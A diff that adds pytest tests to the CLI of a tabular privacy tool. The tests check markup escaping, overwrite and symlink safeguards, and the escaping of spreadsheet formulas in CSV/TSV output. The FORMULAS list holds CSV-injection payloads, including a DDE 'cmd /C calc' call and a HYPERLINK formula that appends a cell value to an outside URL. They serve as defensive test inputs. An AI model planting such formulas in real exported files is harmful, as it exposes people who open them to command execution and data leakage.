@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import os
+from pathlib import Path
+
 import numpy as np
 import pandas as pd
 import pytest
@@ -216,3 +220,223 @@ def test_demo_report_to_an_unwritable_path_fails_cleanly(tmp_path):
     )
     assert result.exit_code == 1
     assert "cannot write --report" in result.output
+
+
+def test_data_derived_text_is_printed_literally_not_as_markup(monkeypatch, stand_ins):
+    from sklearn.utils import Bunch
+
+    markup = "[bold red]x[/]"
+    adult = load_adult()
+    frame = adult.frame.copy()
+    frame["education"] = frame["education"].cat.rename_categories({"Bachelors": markup})
+    domains = dict(adult.domains)
+    domains["education"] = [
+        markup if v == "Bachelors" else v for v in domains["education"]
+    ]
+    changed = Bunch(**{**adult, "frame": frame, "domains": domains})
+    monkeypatch.setattr("privtab.datasets.load_adult", lambda: changed)
+    console = Console(record=True, width=200)
+    demo_module.run_demo(
+        1.0, seed=1, progress=False, console=console, sections=["contingency"]
+    )
+    text = console.export_text()
+    assert markup in text
+    assert "Bachelors" not in text
+    # The row of the renamed category holds its true counts (an independent crosstab).
+    counts = pd.crosstab(frame["education"], frame["income"]).loc[markup]
+    row = next(line for line in text.splitlines() if markup in line)
+    for count in counts:
+        assert f"{count:,}" in row
+
+
+def test_literal_escapes_rich_markup():
+    from privtab.cli._options import literal
+
+    console = Console(record=True, width=80)
+    for text in ("[bold red]x[/]", "[/]", "a [link=http://x]b[/link]", "[1, 2]"):
+        console.print(literal(text))
+        assert console.export_text().strip() == text
+
+
+# Every subcommand, run on a small table of its own (IN.csv), writing OUT.
+SUBCOMMANDS = {
+    "select": (["--target", "label", "--k", "1", "--method", "greedy"], "json"),
+    "histogram": (
+        ["--target", "label", "--allow-inferred-domains", "--seed", "1"],
+        "csv",
+    ),
+    "distances": (["--method", "dilca_m", "--allow-inferred-domains"], "json"),
+    "mask": (["--bounds", "f0=0:1", "--bounds", "f1=0:1", "--seed", "1"], "csv"),
+    "kac": (["--target", "label", "--k", "2"], "json"),
+}
+
+
+@pytest.fixture
+def small_csv(tmp_path):
+    rng = np.random.default_rng(4)
+    frame = pd.DataFrame(
+        {
+            "f0": rng.integers(0, 2, 60),
+            "f1": rng.integers(0, 2, 60),
+            "label": rng.choice(["a", "b"], 60),
+        }
+    )
+    path = tmp_path / "in.csv"
+    frame.to_csv(path, index=False)
+    # mask releases numeric tables: its IN has no text column.
+    numeric = tmp_path / "numeric.csv"
+    frame[["f0", "f1"]].to_csv(numeric, index=False)
+    return path, numeric
+
+
+def invoke(command, small_csv, out, *extra):
+    path, numeric = small_csv
+    args, _ = SUBCOMMANDS[command]
+    source = numeric if command == "mask" else path
+    return CliRunner().invoke(
+        main, [command, str(source), "-o", str(out), *args, *extra]
+    )
+
+
+@pytest.mark.parametrize("command", sorted(SUBCOMMANDS))
+def test_an_existing_out_is_replaced_only_with_force(command, small_csv, tmp_path):
+    out = tmp_path / f"out.{SUBCOMMANDS[command][1]}"
+    out.write_text("kept\n")
+    result = invoke(command, small_csv, out)
+    assert result.exit_code == 2
+    assert "exists; pass --force to replace it" in result.output
+    assert out.read_text() == "kept\n"
+    result = invoke(command, small_csv, out, "--force")
+    assert result.exit_code == 0, result.output
+    assert out.read_text() != "kept\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
+        ["in.csv", "numeric.csv", out.name]
+    )
+
+
+@pytest.mark.parametrize("command", sorted(SUBCOMMANDS))
+def test_out_is_never_in_even_with_force(command, small_csv, tmp_path):
+    source = small_csv[1] if command == "mask" else small_csv[0]
+    before = source.read_bytes()
+    link = tmp_path / "link.csv"
+    link.symlink_to(source)
+    hard = tmp_path / "hard.csv"
+    os.link(source, hard)
+    for out in (source, link, hard, tmp_path / "." / source.name):
+        result = invoke(command, small_csv, out, "--force")
+        assert result.exit_code == 2, (out, result.output)
+        assert "writing it would destroy IN, even with --force" in result.output
+        assert source.read_bytes() == before
+        assert link.is_symlink()
+
+
+@pytest.mark.parametrize("command", sorted(SUBCOMMANDS))
+def test_a_symlink_at_out_is_replaced_not_followed(command, small_csv, tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("not yours\n")
+    out = tmp_path / f"out.{SUBCOMMANDS[command][1]}"
+    out.symlink_to(victim)
+    result = invoke(command, small_csv, out)
+    assert result.exit_code == 2
+    assert "is a symbolic link; pass --force to replace it" in result.output
+    result = invoke(command, small_csv, out, "--force")
+    assert result.exit_code == 0, result.output
+    assert not out.is_symlink()
+    assert victim.read_text() == "not yours\n"
+
+
+def test_a_failed_write_leaves_the_old_out_intact(small_csv, tmp_path, monkeypatch):
+    from privtab.cli import _io
+
+    def fail_half_way(frame, path, fmt=None):
+        Path(path).write_text("half a table\n")
+        raise OSError("No space left on device")
+
+    monkeypatch.setattr(_io, "write_table", fail_half_way)
+    out = tmp_path / "out.csv"
+    out.write_text("the old release\n")
+    result = invoke("histogram", small_csv, out, "--force")
+    assert result.exit_code == 1
+    assert "cannot write" in result.output
+    assert "No space left on device" in result.output
+    assert out.read_text() == "the old release\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == [
+        "in.csv",
+        "numeric.csv",
+        "out.csv",
+    ]
+
+
+def test_demo_report_is_replaced_only_with_force(tmp_path, stand_ins):
+    report = tmp_path / "demo.html"
+    report.write_text("kept")
+    args = ["demo", "--only", "contingency", "--no-progress", "--report", str(report)]
+    result = CliRunner().invoke(main, args)
+    assert result.exit_code == 2
+    assert "exists; pass --force to replace it" in result.output
+    assert report.read_text() == "kept"
+    assert not stand_ins.mechanism_calls  # refused before anything ran
+    result = CliRunner().invoke(main, [*args, "--force"])
+    assert result.exit_code == 0, result.output
+    assert "privacy ledger" in report.read_text()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.com/?"&A2,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tTab",
+    "\rReturn",
+]
+
+
+def test_table_cells_that_a_spreadsheet_would_run_are_escaped(tmp_path):
+    frame = pd.DataFrame(
+        {
+            "name": [*FORMULAS, "plain", "-1.5", "a\r=1+1"],
+            "value": [-1.5, 2.0, -3.0, 0.5, 1.0, -0.25, 7.0, 8.0, -9.5],
+            "level": pd.Categorical(["=1+1", "low"] * 4 + ["low"]),
+            "=cmd": range(9),
+        }
+    )
+    original = frame.copy()
+    for name in ("t.csv", "t.tsv"):
+        write_table(frame, tmp_path / name)
+        back = read_table(tmp_path / name)
+        # "-1.5" is a plain number, no formula: it stays as written.
+        escaped = ["'" + f for f in FORMULAS]
+        assert back["name"].tolist() == [*escaped, "plain", "-1.5", "a\r=1+1"]
+        assert back["value"].dtype == np.float64
+        assert back["value"].tolist() == original["value"].tolist()
+        assert set(back["level"]) == {"'=1+1", "low"}
+        assert list(back.columns) == ["name", "value", "level", "'=cmd"]
+        text = (tmp_path / name).read_text()
+        sep = "\t" if name.endswith("tsv") else ","
+        assert f"{sep}-1.5{sep}" in text  # the number, unquoted
+    pd.testing.assert_frame_equal(frame, original)  # the caller's frame is untouched
+    write_table(frame, tmp_path / "t.parquet")
+    pd.testing.assert_frame_equal(read_table(tmp_path / "t.parquet"), original)
+
+
+def test_a_projection_holding_a_formula_is_escaped(tmp_path):
+    frame = pd.DataFrame(
+        {
+            "name": FORMULAS * 10,
+            "score": np.tile([-1.5, 2.5], 30),
+            "label": np.repeat(["yes", "no"], 30),
+        }
+    )
+    path, out = tmp_path / "in.csv", tmp_path / "out.csv"
+    # Quoted, so that the carriage return stays in its cell.
+    frame.to_csv(path, index=False, quoting=csv.QUOTE_NONNUMERIC)
+    args = ["select", str(path), "-o", str(out), "--target", "label", "--k", "2"]
+    result = CliRunner().invoke(
+        main, [*args, "--method", "greedy", "--write-projection"]
+    )
+    assert result.exit_code == 0, result.output
+    written = pd.read_csv(out)
+    expected = frame.assign(name="'" + frame["name"])
+    pd.testing.assert_frame_equal(
+        written.sort_index(axis=1), expected.sort_index(axis=1)
+    )
